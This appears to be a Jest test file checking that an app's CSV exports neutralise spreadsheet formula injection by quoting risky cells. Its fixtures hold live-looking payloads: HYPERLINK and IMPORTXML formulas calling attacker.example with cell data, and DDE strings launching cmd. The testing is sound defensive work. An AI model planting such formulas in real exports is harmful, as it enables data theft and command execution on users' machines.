import { afterAll, beforeAll, describe, expect, it } from '@jest/globals';
import { parse } from 'csv-parse/sync';
import { createTestApp, type TestApp } from '../support/app.js';
import { incidentReport } from '../support/incidents.js';

/**
 * CSV injection (OWASP): text that a spreadsheet would run as a formula leaves Muster with a
 * single quote in front, through every CSV export, and an exported file imports back unchanged.
 */

/** A cell a spreadsheet runs: = + @ tab CR first, or a minus that does not start a plain number. */
const RUNNABLE = /^([=+@\t\r]|-(?!\d+(\.\d+)?$))/;

const FORMULAS = {
  name: '=HYPERLINK("http://attacker.example/?x="&A1,"details")',
  organization: "+cmd|' /C calc'!A0",
  post: '-2+3',
  notes: "@SUM(1+1)*cmd|' /C calc'!A0",
};

function cells(csv: string): string[][] {
  return parse(csv, { bom: true, relax_column_count: true }) as string[][];
}

function runnable(rows: string[][]): string[] {
  return rows.flat().filter((c) => RUNNABLE.test(c));
}

describe('CSV exports neutralise formulas', () => {
  let t: TestApp;
  let auth: { Authorization: string };

  beforeAll(async () => {
    t = await createTestApp();
    auth = { Authorization: `Bearer ${await t.token('zone_admin')}` };
  });
  afterAll(() => t.close());

  it('contacts: each formula cell gets a quote, and the file imports back as it was', async () => {
    const created = await t.http
      .post('/api/contacts')
      .set(auth)
      .send({ ...FORMULAS, phones: ['13805619876'] });
    expect(created.status).toBe(201);
    // Text typed with a blank before a formula is kept as given, not trimmed into a formula.
    const spaced = await t.http
      .post('/api/contacts')
      .set(auth)
      .send({ name: '  =1+1  ', phones: ['13805619877'] });
    expect(spaced.body.name).toBe('  =1+1');

    const csv = await t.http.get('/api/contacts/export?format=csv').set(auth).buffer(true);
    expect(csv.status).toBe(200);
    const rows = cells(csv.text);
    expect(runnable(rows)).toEqual([]);
    const header = rows[0]!;
    const row = rows.find((r) => r[header.indexOf('id')] === created.body.id)!;
    for (const [field, value] of Object.entries(FORMULAS))
      expect(row[header.indexOf(field)]).toBe(`'${value}`);
    // A phone number is text too: quoted, which also keeps a spreadsheet from making 8.6E+12 of it.
    expect(row[header.indexOf('phones')]).toBe("'+8613805619876");

    const reimported = await t.http
      .post('/api/contacts/import')
      .set(auth)
      .attach('file', Buffer.from(csv.text), 'contacts.csv');
    expect(reimported.status).toBe(200);
    const after = await t.http.get(`/api/contacts/${created.body.id}`).set(auth);
    expect(after.body).toMatchObject({ ...FORMULAS, phones: ['+8613805619876'] });
  });

  it('resources: text cells are quoted, numbers stay numbers', async () => {
    const created = await t.http
      .post('/api/resources')
      .set(auth)
      .send({
        type: 'supplies',
        name: '=1+1',
        model: '\t=cmd',
        quantity: 3,
        unit: '@',
        custodian: '-x',
        location: { lat: 33.99, lng: 116.83 },
        notes: '\r=2',
      });
    expect(created.status).toBe(201);

    const csv = await t.http.get('/api/resources/export?format=csv').set(auth).buffer(true);
    const rows = cells(csv.text);
    expect(runnable(rows)).toEqual([]);
    const header = rows[0]!;
    const row = rows.find((r) => r[header.indexOf('id')] === created.body.id)!;
    const at = (field: string) => row[header.indexOf(field)];
    expect([at('name'), at('model'), at('unit'), at('custodian'), at('notes')]).toEqual([
      "'=1+1",
      "'\t=cmd",
      "'@",
      "'-x",
      "'\r=2",
    ]);
    expect([at('quantity'), at('lat'), at('lng')]).toEqual(['3', '33.99', '116.83']);
  });

  it("an incident's activity log: messages, titles and names", async () => {
    const filed = await t.http
      .post('/api/incidents')
      .set(auth)
      .send(incidentReport({ title: '=IMPORTXML("http://attacker.example","//a")' }));
    expect(filed.status).toBe(201);
    const id = filed.body.id as string;
    for (const text of ['=1+1', '+1', '-1+1', '@A1', '\t=1', "'=already quoted"])
      expect((await t.http.post(`/api/incidents/${id}/messages`).set(auth).send({ text })).status).toBe(201);

    const csv = await t.http.get(`/api/incidents/${id}/activity.csv`).set(auth);
    expect(csv.status).toBe(200);
    const rows = cells(csv.text);
    expect(runnable(rows)).toEqual([]);
    const details = rows.filter((r) => r[4] === 'message').map((r) => r[5]);
    expect(details).toEqual(["'=1+1", "'+1", "'-1+1", "'@A1", "'=1", "''=already quoted"]);
    // The sequence number is a number, and stays one.
    expect(rows.slice(1).every((r) => /^\d+$/.test(r[0]!))).toBe(true);
  });
});
